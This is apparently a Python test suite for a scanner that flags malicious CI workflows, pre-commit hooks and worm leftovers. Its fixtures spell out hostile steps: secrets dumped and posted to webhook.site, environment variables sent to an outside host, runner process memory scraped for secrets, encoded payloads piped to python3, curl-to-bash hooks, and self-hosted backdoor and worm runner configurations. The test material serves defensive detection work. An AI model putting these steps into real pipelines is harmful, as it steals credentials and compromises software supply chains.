from _kit import crlf, fires, silent

BENIGN_WORKFLOW = """name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest   # self-hosted runners are not used here
    steps:
      - uses: actions/checkout@v4
      - run: curl -fsSL https://bun.sh/install | bash
      - run: npm ci && npm test
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
      - run: curl -X POST -d '{"text":"done"}' ${{ secrets.SLACK_WEBHOOK }}
"""
fires("workflow_tojson_secrets", "workflow_exfiltrates_secrets", "critical", ".github/workflows/lint.yml",
      "exfil.yml", """name: Lint
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ toJSON(secrets) }}' > s.json && curl -s -d @s.json https://webhook.site/6f2c1d8e
""")
silent("workflow_ordinary", "workflow_exfiltrates_secrets", ".github/workflows/ci.yml", "ordinary.yml", BENIGN_WORKFLOW)
fires("workflow_worm_name", "workflow_known_worm", "critical", ".github/workflows/shai-hulud-workflow.yml",
      "worm.yml", "on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n")
fires("workflow_worm_runner", "workflow_known_worm", "critical", ".github/workflows/discussion.yaml",
      "sha1hulud.yaml", "name: Discussion Create\non: discussion\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: [self-hosted, SHA1HULUD]\n    steps:\n      - run: echo ok\n")
silent("workflow_formatter", "workflow_known_worm", ".github/workflows/formatter.yml", "ordinary.yml")
fires("workflow_discussion_backdoor", "workflow_self_hosted_backdoor", "critical", ".github/workflows/discussion.yaml",
      "backdoor.yaml", "name: Discussion\non:\n  discussion:\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n")
silent("workflow_self_hosted_plain_not_backdoor", "workflow_self_hosted_backdoor", ".github/workflows/build.yml",
       "self-hosted.yml", "name: Build\non: push\njobs:\n  build:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: make\n",
       also="workflow_self_hosted_runner")
fires("workflow_self_hosted", "workflow_self_hosted_runner", "warning", ".github/workflows/build.yml", "self-hosted.yml")
silent("workflow_hosted", "workflow_self_hosted_runner", ".github/workflows/ci.yml", "ordinary.yml")
fires("truffle_secrets_file", "worm_secret_dump_file", "critical", "truffleSecrets.json",
      "truffleSecrets.json", '{"results": []}\n')
fires("cloud_json_blob", "worm_secret_dump_file", "critical", "cloud.json",
      "cloud.json", "ZXlKaGQzTWlPbnNpUVZkVFgwRkRRMFZUVTE5TFJWbGZTVVFpT2lKQlMwbEJTVTlUUms5T1RqZEZXRUZOVUV4Rklpd2lRVmRUWDFORlEx"
      "SkZWRjlCUTBORlUxTmZTMFZaSWpvaWQwcGhiSEpZVlhSdVJrVk5TUzlMTjAxRVJVNUhMMkpRZUZKbWFVTlpSVmhCVFZCTVJVdEZXU0o5ZlE9PQ==\n")
silent("environment_json_config", "worm_secret_dump_file", "config/environment.json",
       "environment.json", '{\n  "name": "staging",\n  "apiBase": "https://api.staging.example.com",\n  "features": ["search", "billing"]\n}\n')

# --- secrets joined and sent, runner memory, decoded steps ------------------------------------------------
fires("workflow_env_dump_sent_crlf", "workflow_exfiltrates_secrets", "critical", ".github/workflows/release.yml",
      "env-dump.yml", crlf("name: Release\non: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n"
                           "      - run: |\n          printenv | base64 -w0 > env.txt\n"
                           "          curl -s --data-binary @env.txt https://metrics.example-cdn.net/v1/ingest\n"))
silent("workflow_commented_webhook", "workflow_exfiltrates_secrets", ".github/workflows/notify.yml",
       "commented-webhook.yml", "name: Notify\non: push\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n"
       "      # Debugging once used: curl -d @out.json https://webhook.site/2c1f and ${{ toJSON(secrets) }}\n"
       "      - run: echo \"deployed ${{ github.sha }}\"\n")
fires("action_runner_memory", "ci_reads_runner_memory", "critical", ".github/actions/changed-files/action.yml",
      "action-memdump.yml", "name: Changed files\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
      "        pid=$(pgrep -f Runner.Worker)\n"
      "        sudo dd if=/proc/$pid/mem bs=1M 2>/dev/null | grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u\n")
silent("action_reads_cpuinfo", "ci_reads_runner_memory", ".github/actions/info/action.yml",
       "action-cpuinfo.yml", "name: Machine info\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
       "        grep -c processor /proc/cpuinfo\n        cat /proc/meminfo | head -3\n        echo \"runner: $RUNNER_NAME\"\n")
fires("workflow_step_base64_python", "ci_step_decodes_and_runs", "critical", ".github/workflows/lint.yml",
      "decode-run.yml", "name: Lint\non: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n"
      "      - run: echo aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ== | base64 -d | python3\n")
silent("workflow_step_decodes_certificate", "ci_step_decodes_and_runs", ".github/workflows/sign.yml",
       "decode-cert.yml", "name: Sign\non: push\njobs:\n  sign:\n    runs-on: macos-latest\n    steps:\n"
       "      - run: echo \"$P12_BASE64\" | base64 --decode > cert.p12 && security import cert.p12 -P \"$P12_PASSWORD\"\n")

# --- pre-commit local hooks -------------------------------------------------------------------------------
fires("precommit_local_curl", "precommit_hook_runs_payload", "critical", ".pre-commit-config.yaml",
      "pre-commit-curl.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: fmt\n        name: fmt\n"
      "        entry: bash -c 'curl -fsSL https://hooks.example.dev/fmt | bash'\n        language: system\n")
silent("precommit_local_lint", "precommit_hook_runs_payload", ".pre-commit-config.yaml",
       "pre-commit-local.yaml", "repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n"
       "    hooks:\n      - id: trailing-whitespace\n  - repo: local\n    hooks:\n      - id: eslint\n        name: eslint\n"
       "        entry: npx eslint --fix\n        language: system\n        types: [javascript]\n", also="precommit_local_hook")
fires("precommit_local_warns", "precommit_local_hook", "warning", ".pre-commit-config.yaml", "pre-commit-local.yaml")
silent("precommit_remote_only", "precommit_local_hook", ".pre-commit-config.yaml",
       "pre-commit-remote.yaml", "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.8.0\n    hooks:\n      - id: black\n")
fires("action_secrets_double_base64", "workflow_exfiltrates_secrets", "critical", ".github/actions/lint/action.yml",
      "action-double-b64.yml", "name: Lint changed\nruns:\n  using: composite\n  steps:\n    - shell: bash\n"
      "      run: echo \"${{ github.token }}\" | base64 -w 0 | base64 -w 0\n")
silent("workflow_env_sorted_for_debugging", "workflow_exfiltrates_secrets", ".github/workflows/debug.yml",
       "env-debug.yml", "name: Debug\non: workflow_dispatch\njobs:\n  debug:\n    runs-on: ubuntu-latest\n    steps:\n"
       "      - run: env | sort\n      - run: curl -s -X POST -d '{\"text\":\"debug run\"}' \"$SLACK_URL\"\n")
